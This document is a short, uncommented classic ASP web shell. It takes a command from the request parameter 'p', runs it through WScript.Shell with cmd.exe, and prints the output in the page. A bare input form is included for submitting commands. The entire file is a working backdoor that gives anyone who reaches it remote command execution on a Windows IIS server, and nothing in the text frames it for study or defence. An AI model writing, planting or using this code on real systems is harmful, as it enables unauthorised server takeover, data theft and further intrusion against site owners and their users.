<%
Dim sh, ex, c
c = Request("p")
If c <> "" Then
    Set sh = Server.CreateObject("WScript.Shell")
    Set ex = sh.Exec("cmd.exe /c " & c)
    Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="post"><input name="p" size="60"><input type="submit" value="Go"></form>
